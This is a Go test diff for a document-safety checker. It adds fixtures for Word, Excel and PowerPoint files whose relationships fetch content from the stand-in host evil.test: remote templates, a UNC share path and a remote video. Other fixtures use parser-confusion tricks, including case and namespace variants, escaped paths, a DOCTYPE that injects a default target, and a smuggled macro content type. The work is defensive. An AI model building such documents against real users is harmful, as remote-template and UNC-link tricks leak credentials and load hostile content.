@@ -33,6 +33,12 @@ func many(n int) []byte {
 	return Archive(parts...)
 }
 
+// templated is a document with a template elsewhere, of which this is said as well.
+func templated(more string) []byte {
+	said := strings.Replace(Relations(Office+"attachedTemplate", "https://evil.test/a.dotm", true), "/></", " "+more+"/></", 1)
+	return Document(DOCX, "word/document.xml", Part{Name: relations, Body: said})
+}
+
 // broken is a file with one byte changed.
 func broken(body []byte, at int) []byte {
 	body = bytes.Clone(body)
@@ -148,6 +154,14 @@ func Refused() []File {
 			Body: Relations(Office+"externalLinkPath", `file:///\\evil.test\share\a.xlsx`, true)}), desk.FileFetches},
 		{"slides.pptx", Document(PPTX, "ppt/presentation.xml", Part{Name: "ppt/slides/_rels/slide1.xml.rels",
 			Body: Relations(Office+"video", "https://evil.test/a.mp4", true)}), desk.FileFetches},
+		// What different programs read differently.
+		{"upper2.docx", templated(`TYPE="` + Hyperlink + `"`), desk.FileDamaged}, {"space2.docx", templated(`xmlns:x="y" x:Type="` + Hyperlink + `"`), desk.FileDamaged},
+		{"lower2.docx", templated(`target="a"`), desk.FileDamaged}, {"target2.docx", templated(`Target="a"`), desk.FileDamaged},
+		{"mode2.docx", templated(`targetMode="Internal"`), desk.FileDamaged},
+		{"escape2.docx", Related(Office+"attachedTemplate", "%5C%5Cevil.test%5Ca%ZZ.dotm", true), desk.FileDamaged},
+		{"given.docx", Document(DOCX, "word/document.xml", Part{Name: relations, Body: `<!DOCTYPE a [<!ATTLIST Relationship Target CDATA "https://evil.test/">]>` +
+			Relations(Office+"attachedTemplate", "a.dotm", true)}), desk.FileDamaged},
+		{"kind2.docx", typed(Types("word/document.xml", DOCX, "word/a.bin", VBA+`" xmlns:x="y" x:ContentType="a`), "word/document.xml", "word/a.bin"), desk.FileDamaged},
 		{"damaged.docx", Document(DOCX, "word/document.xml", Part{Name: relations, Body: "<Relationships"}), desk.FileDamaged},
 		{"wide16.docx", Document(DOCX, "word/document.xml", Part{Name: relations, Body: "\xff\xfe<\x00a\x00/\x00>\x00"}), desk.FileDamaged},
 		{"endless.docx", Document(DOCX, "word/document.xml", Part{Name: relations, Body: strings.Repeat(" ", 5<<20)}), desk.ArchiveTooLarge},
